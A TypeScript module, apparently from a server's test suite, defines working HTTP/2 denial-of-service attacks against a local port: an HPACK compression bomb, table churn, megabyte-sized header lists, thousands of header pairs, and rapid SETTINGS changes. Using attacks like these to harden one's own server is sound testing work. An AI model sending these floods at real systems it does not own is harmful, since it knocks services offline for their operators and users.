import {
  block,
  END_HEADERS,
  END_STREAM,
  frame,
  headers,
  request,
  setting,
  Type,
} from '../../../test/transport/support/frames.ts';
import type { Attack } from '../attack.ts';
import { fromMany } from './from-many.ts';

const oddId = (index: number): number => 2 * index + 1;

/** A literal that goes into the dynamic table: 4000 bytes that one byte will stand for. */
const large = Buffer.concat([
  Buffer.from([0x40, 1]),
  Buffer.from('x'),
  Buffer.from([0x7f, 0xa1, 0x1e]),
  Buffer.alloc(4_000, 'a'),
]);
const usual = block(request('/NumStore/SetNum'));
/** The 62nd entry: the last one that was added. */
const references = Buffer.alloc(12_000, 0xbe);
const call = (id: number, fields: Buffer): Buffer =>
  frame(Type.headers, END_HEADERS | END_STREAM, id, fields);

const pairs = (count: number, bytes: number): [string, string][] =>
  Array.from({ length: count }, (_, index) => [`x-${index}`, 'v'.repeat(bytes)]);

/** A header list as the frames it takes. */
function inFrames(id: number, fields: Buffer): Buffer {
  const parts: Buffer[] = [];
  for (let start = 0; start < fields.length; start += 16_384) {
    const isLast = start + 16_384 >= fields.length;
    const flags = (isLast ? END_HEADERS : 0) | (start === 0 ? END_STREAM : 0);
    const type = start === 0 ? Type.headers : Type.continuation;
    parts.push(
      frame(
        type,
        type === Type.headers ? flags : flags & END_HEADERS,
        id,
        fields.subarray(start, start + 16_384),
      ),
    );
  }
  return Buffer.concat(parts);
}

/** Header lists that are more than they seem, or more than anybody needs. */
export const headerLists: readonly Attack[] = [
  {
    name: 'HPACK bomb',
    what: '2000 lists over 20 connections, each 48 MB from 12 KB',
    run: (port, share) =>
      fromMany(port, share, 2_000, (index) => call(oddId(index + 1), Buffer.concat([usual, references])), [
        call(1, Buffer.concat([usual, large])),
      ]),
  },
  {
    name: 'HPACK table churn',
    what: '20 000 lists over 20 connections that resize the table and fill it anew',
    run: (port, share) =>
      fromMany(port, share, 20_000, (index) =>
        call(oddId(index), Buffer.concat([Buffer.from([0x20, 0x3f, 0xe1, 0x1f]), usual, large])),
      ),
  },
  {
    name: 'huge header lists',
    what: '1000 lists of 1 MB over 20 connections',
    run: (port, share) =>
      fromMany(port, share, 1_000, (index) =>
        inFrames(oddId(index), block([...request('/NumStore/SetNum'), ...pairs(10, 100_000)])),
      ),
  },
  {
    name: 'header lists of many pairs',
    what: '5000 lists of 1000 pairs over 20 connections',
    run: (port, share) => {
      const fields = block([...request('/NumStore/SetNum'), ...pairs(1_000, 1)]);
      return fromMany(port, share, 5_000, (index) => inFrames(oddId(index), fields));
    },
  },
  {
    name: 'settings that keep us busy',
    what: '20 000 changes of the window of 100 open calls, over 20 connections',
    run: (port, share) => {
      const calls = Array.from({ length: 100 }, (_, index) =>
        headers(oddId(index), request('/NumStore/SetNum')),
      );
      return fromMany(
        port,
        share,
        20_000,
        (index) => frame(Type.settings, 0, 0, Buffer.concat([setting(4, 1 + (index % 2) * 60_000)])),
        calls,
      );
    },
  },
];
